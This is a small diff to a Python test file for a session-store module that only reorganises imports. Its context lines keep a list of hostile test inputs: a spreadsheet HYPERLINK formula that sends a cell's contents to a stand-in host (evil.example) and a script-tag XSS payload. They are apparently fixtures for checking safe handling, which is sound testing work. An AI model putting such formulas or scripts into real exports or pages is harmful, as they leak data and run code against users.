@@ -7,7 +7,8 @@ from sessions_support import raw_sql
 
 from calib.config import load_config
 from calib.sessions import SessionError, StaleVersionError, StoreError, list_sessions, open_session
-from calib.sessions.store import SessionStore, resolve_store
+from calib.sessions.engine import resolve_store
+from calib.sessions.store import SessionStore
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "<script>alert('x')</script>", "Zoë ✓ \"quoted\"\nline 2"]
 
